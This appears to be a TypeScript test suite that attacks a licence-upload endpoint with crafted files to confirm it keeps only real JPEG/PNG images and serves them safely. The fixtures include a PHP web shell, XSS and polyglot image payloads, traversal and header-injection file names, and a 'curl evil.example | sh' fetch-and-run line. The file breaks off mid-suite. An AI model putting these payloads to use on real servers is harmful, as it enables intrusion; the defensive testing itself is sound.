/**
 * The commercial-licence upload under attack (UP-01..UP-09): a hand-crafted corpus
 * of hostile files and names, a thousand byte mutations of real JPEG and PNG images, the multipart
 * limits, a drip-fed body, the per-address limit with spoofed proxy headers, and attempts to land
 * on another company's file. What the design guarantees (docs/decisions/031 and 070):
 * - only bytes that start as a JPEG or PNG are kept, under `commercialLicenses/{server id}.{jpg|png}`,
 *   whatever the name, the declared type or the form says; nothing else is written anywhere;
 * - the file is kept exactly as sent (not re-encoded, decision 070), so a polyglot stays a polyglot:
 *   it is only ever handed to admins, as an attachment that cannot be sniffed, rendered or framed;
 * - the server never decodes an image, so a pixel flood costs it nothing.
 */
import { createHash, randomBytes } from 'node:crypto';
import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import net from 'node:net';
import path from 'node:path';
import { crc32, deflateSync } from 'node:zlib';
import { sql } from 'drizzle-orm';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { COMPANY_MESSAGES } from '../../src/contracts/companies.ts';
import { buildApp } from '../../src/server/app.ts';
import { loadConfig } from '../../src/server/config.ts';
import { companies } from '../../src/server/db/schema.ts';
import { createUser, signIn, withCookie } from '../support/accounts.ts';
import { recordFigure, runs } from '../support/figures.ts';
import { createTestApp, openTestDatabase, type TestApp } from '../support/test-app.ts';
import {
  type CompanyFields,
  register,
  storedFiles,
  validCompany,
} from '../integration/partners/registration-helpers.ts';

// ---------------------------------------------------------------------------------------------
// Images, built here byte by byte.

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

const PNG_SIGNATURE = Buffer.from('89504e470d0a1a0a', 'hex');

function ihdr(width: number, height: number, colorType = 2): Buffer {
  const data = Buffer.alloc(13);
  data.writeUInt32BE(width, 0);
  data.writeUInt32BE(height, 4);
  data[8] = 8; // bit depth
  data[9] = colorType;
  return pngChunk('IHDR', data);
}

/** A real 8×8 RGB PNG (a gradient), optionally with extra chunks after IHDR and bytes after IEND. */
function png(options: { extraChunks?: Buffer[]; trailer?: Buffer } = {}): Buffer {
  const rows: Buffer[] = [];
  for (let y = 0; y < 8; y++) {
    const row = Buffer.alloc(1 + 8 * 3);
    for (let x = 0; x < 8; x++) row.set([x * 32, y * 32, 128], 1 + x * 3);
    rows.push(row);
  }
  return Buffer.concat([
    PNG_SIGNATURE,
    ihdr(8, 8),
    ...(options.extraChunks ?? []),
    pngChunk('IDAT', deflateSync(Buffer.concat(rows))),
    pngChunk('IEND', Buffer.alloc(0)),
    options.trailer ?? Buffer.alloc(0),
  ]);
}

/** A real 8×8 baseline JPEG (628 bytes, made once by libjpeg via sharp, no metadata). */
const JPEG_SEED = Buffer.from(
  '/9j/2wBDABALDA4MChAODQ4SERATGCgaGBYWGDEjJR0oOjM9PDkzODdASFxOQERXRTc4UG1RV19iZ2hnPk1xeXBkeFxlZ2P/2wBDARESEhgVGC8aGi9jQjhCY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2P/wAARCAAIAAgDASIAAhEBAxEB/8QAHwAAAQUBAQEBAQEAAAAAAAAAAAECAwQFBgcICQoL/8QAtRAAAgEDAwIEAwUFBAQAAAF9AQIDAAQRBRIhMUEGE1FhByJxFDKBkaEII0KxwRVS0fAkM2JyggkKFhcYGRolJicoKSo0NTY3ODk6Q0RFRkdISUpTVFVWV1hZWmNkZWZnaGlqc3R1dnd4eXqDhIWGh4iJipKTlJWWl5iZmqKjpKWmp6ipqrKztLW2t7i5usLDxMXGx8jJytLT1NXW19jZ2uHi4+Tl5ufo6erx8vP09fb3+Pn6/8QAHwEAAwEBAQEBAQEBAQAAAAAAAAECAwQFBgcICQoL/8QAtREAAgECBAQDBAcFBAQAAQJ3AAECAxEEBSExBhJBUQdhcRMiMoEIFEKRobHBCSMzUvAVYnLRChYkNOEl8RcYGRomJygpKjU2Nzg5OkNERUZHSElKU1RVVldYWVpjZGVmZ2hpanN0dXZ3eHl6goOEhYaHiImKkpOUlZaXmJmaoqOkpaanqKmqsrO0tba3uLm6wsPExcbHyMnK0tPU1dbX2Nna4uPk5ebn6Onq8vP09fb3+Pn6/9oADAMBAAIRAxEAPwCDT9C6fJRRRXPVxNTm3LwGLq+xWp//2Q==',
  'base64',
);
const PNG_SEED = png();

/** A JPEG with one more segment right after SOI (APPn, COM…). */
function withSegment(jpeg: Buffer, marker: number, payload: Buffer): Buffer {
  const head = Buffer.from([0xff, marker, 0, 0]);
  head.writeUInt16BE(payload.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), head, payload, jpeg.subarray(2)]);
}

/** A JPEG whose frame header (SOF0) declares other dimensions. */
function withJpegSize(jpeg: Buffer, width: number, height: number): Buffer {
  const copy = Buffer.from(jpeg);
  const sof = copy.indexOf(Buffer.from([0xff, 0xc0]));
  copy.writeUInt16BE(height, sof + 5);
  copy.writeUInt16BE(width, sof + 7);
  return copy;
}

/**
 * An APP1 Exif payload with GPS coordinates (Wellington), big-endian TIFF: IFD0 at 8 holds one
 * entry (GPSInfo → 26); the GPS IFD at 26 holds the latitude and longitude with their references;
 * the two triples of rationals follow at 80 and 104.
 */
function exifGps(): Buffer {
  const tiff = Buffer.alloc(128);
  tiff.write('MM', 0, 'latin1');
  tiff.writeUInt16BE(42, 2);
  tiff.writeUInt32BE(8, 4);
  const entry = (at: number, tag: number, type: number, count: number, value: Buffer) => {
    tiff.writeUInt16BE(tag, at);
    tiff.writeUInt16BE(type, at + 2);
    tiff.writeUInt32BE(count, at + 4);
    value.copy(tiff, at + 8);
  };
  const long = (n: number) => {
    const b = Buffer.alloc(4);
    b.writeUInt32BE(n);
    return b;
  };
  tiff.writeUInt16BE(1, 8);
  entry(10, 0x8825, 4, 1, long(26)); // GPSInfo (LONG)
  tiff.writeUInt32BE(0, 22);
  tiff.writeUInt16BE(4, 26);
  entry(28, 1, 2, 2, Buffer.from('S\0', 'latin1')); // GPSLatitudeRef (ASCII)
  entry(40, 2, 5, 3, long(80)); // GPSLatitude (RATIONAL ×3)
  entry(52, 3, 2, 2, Buffer.from('E\0', 'latin1')); // GPSLongitudeRef
  entry(64, 4, 5, 3, long(104)); // GPSLongitude
  tiff.writeUInt32BE(0, 76);
  [41, 1, 17, 1, 2000, 100, 174, 1, 46, 1, 3000, 100].forEach((n, i) => tiff.writeUInt32BE(n, 80 + i * 4));
  return Buffer.concat([Buffer.from('Exif\0\0', 'latin1'), tiff]);
}

/** A PNG that declares 30000×30000 RGBA (3.6 GB decoded), with a small start of pixel data. */
function pixelFloodPng(): Buffer {
  const idat = deflateSync(Buffer.alloc(16 * 1024 * 1024));
  return Buffer.concat([
    PNG_SIGNATURE,
    ihdr(30_000, 30_000, 6),
    pngChunk('IDAT', idat),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

const ZIP_LOCAL_HEADER = Buffer.concat([
  Buffer.from('504b0304140000000800', 'hex'),
  Buffer.alloc(20),
  Buffer.from('shell.php<?php system($_GET["c"]); ?>'),
]);
const PHP = Buffer.from('<?php system($_GET["c"]); ?>\n');
const HTML = Buffer.from(
  '<!doctype html><html><body><script>fetch("/api/admin/users").then(r=>r.text()).then(alert)</script></body></html>',
);
const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>');
const ELF = Buffer.concat([
  Buffer.from('7f454c46020101000000000000000000', 'hex'),
  Buffer.from('0200 3e00 0100 0000'.replaceAll(' ', ''), 'hex'),
  Buffer.alloc(48),
]);

// ---------------------------------------------------------------------------------------------
// Multipart bodies written by hand, so names, types and headers go out exactly as given.

interface RawPart {
  name: string;
  /** Sent verbatim between the quotes (bytes, if a Buffer): nothing escapes it. */
  filename?: string | Buffer;
  contentType?: string;
  body: Buffer | string;
  /** Whole extra header lines for the part, e.g. a `filename*=` variant. */
  disposition?: string;
}

function multipart(parts: RawPart[]): { payload: Buffer; headers: Record<string, string> } {
  const boundary = `----bagspace-corpus-${randomBytes(8).toString('hex')}`;
  const chunks: Buffer[] = [];
  for (const part of parts) {
    chunks.push(Buffer.from(`--${boundary}\r\n`));
    if (part.disposition !== undefined) {
      chunks.push(Buffer.from(part.disposition, 'utf8'));
    } else {
      chunks.push(Buffer.from(`Content-Disposition: form-data; name="${part.name}"`));
      if (part.filename !== undefined) {
        chunks.push(
          Buffer.from('; filename="'),
          Buffer.isBuffer(part.filename) ? part.filename : Buffer.from(part.filename, 'utf8'),
          Buffer.from('"'),
        );
      }
    }
    chunks.push(Buffer.from('\r\n'));
    if (part.contentType !== undefined) chunks.push(Buffer.from(`Content-Type: ${part.contentType}\r\n`));
    chunks.push(
      Buffer.from('\r\n'),
      Buffer.isBuffer(part.body) ? part.body : Buffer.from(part.body),
      Buffer.from('\r\n'),
    );
  }
  chunks.push(Buffer.from(`--${boundary}--\r\n`));
  return { payload: Buffer.concat(chunks), headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } };
}

const fieldParts = (fields: Partial<Record<string, string>>): RawPart[] =>
  Object.entries(fields).flatMap(([name, value]) => (value === undefined ? [] : [{ name, body: value }]));

/** Unique applications without randomness: a thousand draws of validCompany() could collide. */
let serial = 0;
const runTag = randomBytes(2).toString('hex');
function uniqueCompany(): CompanyFields {
  serial += 1;
  const digits = String(serial).padStart(8, '0');
  return {
    companyName: `Corpus Cartage ${runTag} ${serial}`,
    phoneNumber: `022${digits}`,
    address: '1 Customhouse Quay, Wellington 6011',
    street: '',
    contactPersonName: 'Hemi Walker',
    contactPersonJobTitle: 'Director',
    contactPersonPhoneNumber: `028${digits}`,
    contactPersonEmail: `corpus.${runTag}.${serial}@cartage.co.nz`,
  };
}

const sha256 = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex');

// ---------------------------------------------------------------------------------------------

// What the figure reports, filled in by the tests below.
const startedAt = Date.now();
let floodFigures = { floodMs: -1, floodRssMb: -1 };
let mutated = 0;
let mutatedAccepted = 0;
let acceptedNonImage = 0;
let mutationSeed = 0;
let orphanOrOutside = -1;

let t: TestApp;
let adminCookie: Record<string, string>;
const STORED_NAME =
  /^commercialLicenses\/[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}\.(jpg|png)$/;

beforeAll(async () => {
  t = await createTestApp({ web: true, env: { REGISTRATIONS_PER_IP_PER_HOUR: '100000' } });
  const admin = await createUser(t, { role: 'admin' });
  adminCookie = withCookie(t, await signIn(t, admin.email, admin.password));
}, 60_000);
afterAll(() => t?.close());

async function send(
  license: RawPart | RawPart[] | null,
  options: { fields?: Partial<Record<string, string>>; url?: string } = {},
) {
  const extra = license === null ? [] : Array.isArray(license) ? license : [license];
  const { payload, headers } = multipart([...fieldParts(options.fields ?? uniqueCompany()), ...extra]);
  return t.app.inject({ method: 'POST', url: options.url ?? '/api/companies', payload, headers });
}

const licencePart = (body: Buffer, filename: string | Buffer = 'licence.png', contentType = 'image/png'): RawPart => ({
  name: 'commercialLicense',
  filename,
  contentType,
  body,
});

const fileOf = (key: string) => path.join(t.dataDir, 'files', ...key.split('/'));

/** Every file under DATA_DIR, relative to it (the database of this test runs elsewhere). */
function everyFileUnder(root: string): string[] {
  if (!fs.existsSync(root)) return [];
  return (fs.readdirSync(root, { recursive: true, withFileTypes: true }) as fs.Dirent[])
    .filter((entry) => !entry.isDirectory())
    .map((entry) => path.relative(root, path.join(entry.parentPath, entry.name)))
    .sort();
}

// ---------------------------------------------------------------------------------------------

type Expectation = 'refused' | 'stored' | 'not-5xx';
interface CorpusEntry {
  label: string;
  bytes: Buffer;
  filename?: string | Buffer;
  contentType?: string;
  expect: Expectation;
  /** The extension the stored file must get (from the bytes). */
  ext?: 'jpg' | 'png';
  /** Raw Content-Disposition line instead of name/filename. */
  disposition?: string;
}

const refused = (label: string, bytes: Buffer, filename: string, contentType: string): CorpusEntry => ({
  label,
  bytes,
  filename,
  contentType,
  expect: 'refused',
});
const stored = (
  label: string,
  bytes: Buffer,
  ext: 'jpg' | 'png',
  filename: string | Buffer,
  contentType: string,
  expect: Expectation = 'stored',
): CorpusEntry => ({
  label,
  bytes,
  ext,
  filename,
  contentType,
  expect,
});

const POLYGLOT_JPEG_HTML = Buffer.concat([
  withSegment(JPEG_SEED, 0xfe, Buffer.from('<html><body><script>alert(document.domain)</script><!--')),
  Buffer.from('--><script>alert(1)</script></body></html>'),
]);
// The APP0 length bytes read "/*" to a JavaScript parser: the classic JPEG/JS polyglot.
const POLYGLOT_JPEG_JS = Buffer.concat([
  Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x2f, 0x2a]),
  Buffer.from('JFIF\0*/=alert(document.cookie);/*'),
  Buffer.alloc(0x2f2a - 2 - 33, 0x20),
  JPEG_SEED.subarray(2),
  Buffer.from('*/'),
]);
const PNG_TEXT_SCRIPT = png({
  extraChunks: [pngChunk('tEXt', Buffer.from('Comment\0<script>alert(document.domain)</script>', 'latin1'))],
});
const PNG_PHP_TRAILER = png({ trailer: PHP });
const PNG_ZIP = png({ trailer: ZIP_LOCAL_HEADER });
const JPEG_EXIF_GPS = withSegment(JPEG_SEED, 0xe1, exifGps());
const JPEG_PHP_COMMENT = withSegment(JPEG_SEED, 0xfe, PHP);
const JPEG_TRUNCATED = JPEG_SEED.subarray(0, Math.floor(JPEG_SEED.length * 0.6));
const JPEG_FLOOD = withJpegSize(JPEG_SEED, 65_500, 65_500);
const PNG_FLOOD = pixelFloodPng();

const CORPUS: CorpusEntry[] = [
  // Not JPEG or PNG, whatever they are called (UP-02).
  refused(
    'GIF89a named .jpg',
    Buffer.from(
      'GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;',
      'latin1',
    ),
    'licence.jpg',
    'image/jpeg',
  ),
  refused(
    'GIF87a named .png',
    Buffer.from('GIF87a\x01\x00\x01\x00\x00\x00\x00;', 'latin1'),
    'licence.png',
    'image/png',
  ),
  refused(
    'GIF with PHP (GIF89a<?php) named .php.jpg',
    Buffer.concat([Buffer.from('GIF89a'), PHP]),
    'shell.php.jpg',
    'image/jpeg',
  ),
  refused(
    'WebP named .jpg',
    Buffer.concat([Buffer.from('RIFF\x24\x00\x00\x00WEBPVP8 \x18\x00\x00\x00', 'latin1'), Buffer.alloc(24)]),
    'licence.jpg',
    'image/jpeg',
  ),
  refused('SVG with <script> named .png', SVG, 'licence.png', 'image/png'),
  refused('SVG with <script> as image/svg+xml', SVG, 'licence.svg', 'image/svg+xml'),
  refused(
    'SVG with onload, XML prolog',
    Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    'x.png',
    'image/png',
  ),
  refused('HTML named .jpg', HTML, 'licence.jpg', 'image/jpeg'),
  refused(
    'HTML with a UTF-8 BOM named .png',
    Buffer.concat([Buffer.from('efbbbf', 'hex'), HTML]),
    'licence.png',
    'image/png',
  ),
  refused('UTF-16 HTML named .png', Buffer.from(`\ufeff${HTML.toString()}`, 'utf16le'), 'licence.png', 'image/png'),
  refused(
    'XHTML with script',
    Buffer.from('<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>'),
    'x.jpg',
    'image/jpeg',
  ),
  refused(
    'PDF named .png',
    Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n'),
    'licence.png',
    'image/png',
  ),
  refused(
    'PDF with /OpenAction JavaScript',
    Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF'),
    'licence.jpg',
    'application/pdf',
  ),
  refused('ZIP named .jpg', ZIP_LOCAL_HEADER, 'licence.jpg', 'image/jpeg'),
  refused(
    'ZIP with a GIF header (GIFAR)',
    Buffer.concat([Buffer.from('GIF89a'), ZIP_LOCAL_HEADER]),
    'licence.png',
    'image/png',
  ),
  refused('ELF executable named .jpg', ELF, 'licence.jpg', 'image/jpeg'),
  refused(
    'Windows PE (MZ) named .png',
    Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00', 'latin1'), Buffer.alloc(56)]),
    'licence.png',
    'image/png',
  ),
  refused(
    'Mach-O named .jpg',
    Buffer.concat([Buffer.from('cffaedfe07000001', 'hex'), Buffer.alloc(24)]),
    'licence.jpg',
    'image/jpeg',
  ),
  refused(
    'Java class named .png',
    Buffer.concat([Buffer.from('cafebabe00000034', 'hex'), Buffer.alloc(16)]),
    'licence.png',
    'image/png',
  ),
  refused(
    'WebAssembly named .jpg',
    Buffer.concat([Buffer.from('0061736d01000000', 'hex'), Buffer.alloc(16)]),
    'licence.jpg',
    'image/jpeg',
  ),
  refused(
    'shell script named .png',
    Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n'),
    'licence.png',
    'image/png',
  ),
  refused('PHP renamed .jpg', PHP, 'shell.jpg', 'image/jpeg'),
  refused('PHP renamed .png', PHP, 'shell.png', 'image/png'),
  refused('PHP as application/x-php', PHP, 'shell.php', 'application/x-php'),
  refused('JavaScript named .jpg', Buffer.from('alert(document.cookie);//'), 'licence.jpg', 'image/jpeg'),
  refused('BMP named .jpg', Buffer.concat([Buffer.from('BM'), Buffer.alloc(60)]), 'licence.jpg', 'image/jpeg'),
  refused(
    'TIFF named .png',
    Buffer.concat([Buffer.from('49492a0008000000', 'hex'), Buffer.alloc(32)]),
    'licence.png',
    'image/png',
  ),
  refused(
    'ICO named .png',
    Buffer.concat([Buffer.from('0000010001001010', 'hex'), Buffer.alloc(32)]),
    'favicon.png',
    'image/png',
  ),
  refused(
    'HEIC/AVIF (ftyp) named .jpg',
    Buffer.concat([Buffer.from('000000186674797068656963', 'hex'), Buffer.alloc(24)]),
    'IMG_0001.jpg',
    'image/jpeg',
  ),
  refused(
    'JPEG 2000 named .jpg',
    Buffer.concat([Buffer.from('0000000c6a5020200d0a870a', 'hex'), Buffer.alloc(24)]),
    'licence.jpg',
    'image/jpeg',
  ),
  refused(
    'gzip named .png',
    Buffer.concat([Buffer.from('1f8b0800000000000003', 'hex'), Buffer.alloc(20)]),
    'licence.png',
    'image/png',
  ),
  refused('RTF named .jpg', Buffer.from('{\\rtf1\\ansi{\\object\\objemb}}'), 'licence.jpg', 'image/jpeg'),
  refused(
    'MHTML named .png',
    Buffer.from(
      'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="x"\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>',
    ),
    'licence.png',
    'image/png',
  ),
  refused('a PNG as base64 text', Buffer.from(PNG_SEED.toString('base64')), 'licence.png', 'image/png'),
  refused(
    'a PNG as a data: URL',
    Buffer.from(`data:image/png;base64,${PNG_SEED.toString('base64')}`),
    'licence.png',
    'image/png',
  ),
  refused(
    '"JFIF" without the JPEG start',
    Buffer.concat([Buffer.from('\0\0\0\0\0\0JFIF\0'), Buffer.alloc(32)]),
    'licence.jpg',
    'image/jpeg',
  ),
  refused(
    'JPEG start off by one (FF D8 FE)',
    Buffer.concat([Buffer.from('ffd8fe', 'hex'), JPEG_SEED.subarray(3)]),
    'licence.jpg',
    'image/jpeg',
  ),
  refused(
    'PNG signature mangled by a text-mode transfer',
    Buffer.concat([Buffer.from('89504e470a1a0a', 'hex'), PNG_SEED.subarray(8)]),
    'licence.png',
    'image/png',
  ),
  refused('the first 7 bytes of a JPEG', JPEG_SEED.subarray(0, 7), 'licence.jpg', 'image/jpeg'),
  refused('the first 7 bytes of a PNG', PNG_SEED.subarray(0, 7), 'licence.png', 'image/png'),
  refused('a single NUL byte', Buffer.from([0]), 'licence.png', 'image/png'),
  refused('an empty file with a name', Buffer.alloc(0), 'licence.jpg', 'image/jpeg'),

  // Real JPEG or PNG starts carrying something else (UP-02, UP-03): kept as sent, as an image.
  stored(
    'JPEG + HTML/JS polyglot (script in a comment and after EOI)',
    POLYGLOT_JPEG_HTML,
    'jpg',
    'licence.html',
    'text/html',
  ),
  stored('JPEG/JS polyglot (APP0 length reads "/*")', POLYGLOT_JPEG_JS, 'jpg', 'licence.js', 'application/javascript'),
  stored('JPEG with <?php in a comment, named .php', JPEG_PHP_COMMENT, 'jpg', 'shell.php', 'application/x-php'),
  stored('PNG with a tEXt <script> chunk', PNG_TEXT_SCRIPT, 'png', 'licence.png', 'image/png'),
  stored('PNG with PHP after IEND, named .png.php', PNG_PHP_TRAILER, 'png', 'licence.png.php', 'image/png'),
  stored('PNG/ZIP polyglot', PNG_ZIP, 'png', 'licence.zip', 'application/zip'),
  stored('JPEG with EXIF GPS', JPEG_EXIF_GPS, 'jpg', 'IMG_2040.jpg', 'image/jpeg'),
  stored('truncated JPEG', JPEG_TRUNCATED, 'jpg', 'licence.jpg', 'image/jpeg'),
  stored('pixel-flood PNG (30000×30000 RGBA)', PNG_FLOOD, 'png', 'flood.png', 'image/png'),
  stored('pixel-flood JPEG (65500×65500)', JPEG_FLOOD, 'jpg', 'flood.jpg', 'image/jpeg'),
  stored('PNG named .jpg', PNG_SEED, 'png', 'licence.jpg', 'image/jpeg'),
  stored('JPEG named .png', JPEG_SEED, 'jpg', 'licence.png', 'image/png'),
  stored('PNG with a spoofed Content-Type text/html', PNG_SEED, 'png', 'licence.png', 'text/html'),
  stored('JPEG declared image/svg+xml', JPEG_SEED, 'jpg', 'licence.svg', 'image/svg+xml'),
  stored(
    'a JPEG start followed by an HTML page',
    Buffer.concat([Buffer.from('ffd8ffe0', 'hex'), HTML]),
    'jpg',
    'page.jpg',
    'image/jpeg',
  ),

  // Hostile names on good images: ignored (UP-04).
  stored('name ../../x.jpg', JPEG_SEED, 'jpg', '../../x.jpg', 'image/jpeg'),
  stored('name ..\\..\\x.jpg', JPEG_SEED, 'jpg', '..\\..\\x.jpg', 'image/jpeg'),
  stored('name x.php%00.jpg', JPEG_SEED, 'jpg', 'x.php%00.jpg', 'image/jpeg'),
  stored('name x.jpg.php', JPEG_SEED, 'jpg', 'x.jpg.php', 'image/jpeg'),
  stored('name with RTLO (licence‮gpj.php)', PNG_SEED, 'png', 'licence\u202Egpj.php', 'image/png'),
  stored('a 300-character name', PNG_SEED, 'png', `${'a'.repeat(296)}.png`, 'image/png'),
  stored('name /etc/passwd', PNG_SEED, 'png', '/etc/passwd', 'image/png'),
  stored('name C:\\Windows\\win.ini', PNG_SEED, 'png', 'C:\\Windows\\win.ini', 'image/png'),
  stored('name .htaccess', PNG_SEED, 'png', '.htaccess', 'image/png'),
  stored('name %2e%2e%2f%2e%2e%2fx.jpg', JPEG_SEED, 'jpg', '%2e%2e%2f%2e%2e%2fx.jpg', 'image/jpeg'),
  stored('name with a full-width dot (x．php)', JPEG_SEED, 'jpg', 'x\uFF0Ephp', 'image/jpeg'),
  stored('Windows device name CON.jpg', JPEG_SEED, 'jpg', 'CON.jpg', 'image/jpeg'),
  stored('an empty name', PNG_SEED, 'png', '', 'image/png'),
  stored(
    'name with a raw NUL (x.php\\0.jpg)',
    JPEG_SEED,
    'jpg',
    Buffer.from('x.php\0.jpg', 'latin1'),
    'image/jpeg',
    'not-5xx',
  ),
  stored(
    'name with raw invalid UTF-8',
    PNG_SEED,
    'png',
    Buffer.from([0x78, 0xff, 0xfe, 0x2e, 0x70, 0x6e, 0x67]),
    'image/png',
    'not-5xx',
  ),
  {
    label: 'filename*= (RFC 5987) climbing out',
    bytes: JPEG_SEED,
    ext: 'jpg',
    expect: 'stored',
    disposition: `Content-Disposition: form-data; name="commercialLicense"; filename*=UTF-8''..%2F..%2F..%2Fx.jpg`,
    contentType: 'image/jpeg',
  },
  {
    label: 'a quote and CRLF in the name (header injection)',
    bytes: PNG_SEED,
    ext: 'png',
    expect: 'not-5xx',
    disposition:
      'Content-Disposition: form-data; name="commercialLicense"; filename="x.png"\r\nContent-Type: text/html\r\nX-Injected: "1"',
    contentType: 'image/png',
  },
];

/** The names a hostile filename could have produced if it were ever used as a path. */
const ESCAPE_NAMES = ['x.jpg', 'x.php', 'x.jpg.php', 'passwd', 'win.ini', '.htaccess', 'shell.php', 'CON.jpg'];

describe('the hand-crafted corpus (UP-02, UP-03, UP-04)', () => {
  const outcomes: Array<{ entry: CorpusEntry; status: number; id?: string }> = [];

  it(`answers each of ${CORPUS.length} hostile files without a 5xx, keeping only JPEG and PNG, under the server's name`, async () => {
    expect(CORPUS.length).toBeGreaterThanOrEqual(40);
    for (const entry of CORPUS) {
      const fields = uniqueCompany();
      const part: RawPart = {
        name: 'commercialLicense',
        filename: entry.filename,
        contentType: entry.contentType,
        body: entry.bytes,
        disposition: entry.disposition,
      };
      const filesBefore = storedFiles(t);
      const res = await send(part, { fields });
      const why = `${entry.label} → ${res.statusCode} ${res.body.slice(0, 300)}`;
      expect(res.statusCode, why).toBeLessThan(500);
      if (entry.expect === 'refused') {
        expect(res.statusCode, why).toBe(400);
        expect(res.json().error.fields, why).toEqual({ commercialLicense: COMPANY_MESSAGES.fileUnsupported });
        expect(storedFiles(t), why).toEqual(filesBefore);
      } else if (entry.expect === 'stored' || res.statusCode === 201) {
        expect(res.statusCode, why).toBe(201);
        const { id, company } = res.json();
        const key = `commercialLicenses/${id}.${entry.ext}`;
        expect(company.commercialLicenseUrl, why).toBe(`/api/admin/companies/${id}/license`);
        expect(storedFiles(t), why).toEqual([...filesBefore, key].sort());
        // Not re-encoded (decision 070): the bytes are kept exactly as sent.
        expect(sha256(fs.readFileSync(fileOf(key))), why).toBe(sha256(entry.bytes));
        outcomes.push({ entry, status: res.statusCode, id });
        continue;
      } else {
        expect([400, 413], why).toContain(res.statusCode);
        expect(storedFiles(t), why).toEqual(filesBefore);
      }
      outcomes.push({ entry, status: res.statusCode });
    }
  }, 120_000);

  it('hands every kept hostile file to admins only, as an attachment that cannot be sniffed, rendered or framed (UP-05)', async () => {
    const kept = outcomes.filter((o) => o.id);
    expect(kept.length).toBeGreaterThanOrEqual(25);
    const member = await createUser(t);
    const memberCookie = withCookie(t, await signIn(t, member.email, member.password));
    for (const { entry, id } of kept) {
      const url = `/api/admin/companies/${id}/license`;
      const file = await t.app.inject({ method: 'GET', url, headers: adminCookie });
      expect(file.statusCode, entry.label).toBe(200);
      expect(file.headers['content-type'], entry.label).toBe(entry.ext === 'png' ? 'image/png' : 'image/jpeg');
      expect(file.headers['content-disposition'], entry.label).toBe(
        `attachment; filename="licence-${id}.${entry.ext}"`,
      );
      expect(file.headers['x-content-type-options']).toBe('nosniff');
      expect(file.headers['content-security-policy']).toBe("default-src 'none'; sandbox");
      expect(file.headers['cross-origin-resource-policy']).toBe('same-origin');
      expect(file.headers['cache-control']).toBe('no-store');
      expect(file.rawPayload.equals(entry.bytes), entry.label).toBe(true);
      for (const headers of [{}, memberCookie]) {
        const denied = await t.app.inject({ method: 'GET', url, headers });
        expect([401, 403]).toContain(denied.statusCode);
        expect(denied.headers['content-type']).toBe('application/json; charset=utf-8');
        expect(denied.body).not.toMatch(/<script|<\?php|<html/i);
      }
    }
  });

  it('never serves the storage path itself, on the API or the web side (UP-05)', async () => {
    const { id, entry } = outcomes.find((o) => o.entry.bytes === POLYGLOT_JPEG_HTML)!;
    for (const url of [
      `/commercialLicenses/${id}.${entry.ext}`,
      `/files/commercialLicenses/${id}.${entry.ext}`,
      `/data/files/commercialLicenses/${id}.${entry.ext}`,
      `/api/files/commercialLicenses/${id}.${entry.ext}`,
      `/assets/../files/commercialLicenses/${id}.${entry.ext}`,
      `/assets/%2e%2e/%2e%2e/files/commercialLicenses/${id}.${entry.ext}`,
      '/files/.partial/',
      '/commercialLicenses/',
    ]) {
      const res = await t.app.inject({ method: 'GET', url, headers: adminCookie });
      expect(res.statusCode, url).toBe(404);
      expect(res.body, url).not.toContain('alert(document.domain)');
      expect(res.headers['content-type'], url).not.toMatch(/^image\//);
    }
  });

  it('keeps a pixel flood as an opaque file: stored in well under a second, no memory growth (the server never decodes it)', async () => {
    const timings: number[] = [];
    let rssDelta = 0;
    for (const bytes of [PNG_FLOOD, JPEG_FLOOD]) {
      const rssBefore = process.memoryUsage().rss;
      const started = performance.now();
      const res = await send(licencePart(bytes, 'flood.png'));
      timings.push(performance.now() - started);
      rssDelta = Math.max(rssDelta, process.memoryUsage().rss - rssBefore);
      expect(res.statusCode).toBe(201);
    }
    floodFigures = { floodMs: Math.round(Math.max(...timings)), floodRssMb: Math.round(rssDelta / 1e6) };
    expect(Math.max(...timings)).toBeLessThan(1000);
    expect(rssDelta).toBeLessThan(100 * 1024 * 1024);
  });
});

/** The oracle: what the spec accepts is exactly a JPEG start (FF D8 FF) or the PNG signature. */
function expectedType(bytes: Uint8Array): 'jpg' | 'png' | null {
  if (bytes.length < 8) return null;
  if (bytes[0] === 0xff && bytes[1] === 0xd8 && bytes[2] === 0xff) return 'jpg';
  if (PNG_SIGNATURE.every((b, i) => bytes[i] === b)) return 'png';
  return null;
}

describe('byte mutations of real JPEG and PNG images (fast-check)', () => {
  const PAYLOADS = [
    PHP,
    HTML,
    SVG,
    ZIP_LOCAL_HEADER,
    Buffer.from('%PDF-1.7'),
    Buffer.from('GIF89a'),
    Buffer.from([0, 0, 0, 0]),
    Buffer.from('\r\n--'),
  ];
  const NAMES = [
    'licence.jpg',
    'licence.png',
    '../../x.jpg',
    'x.php%00.jpg',
    'x.jpg.php',
    'a\u202Egpj.php',
    'x'.repeat(300),
    '',
  ];
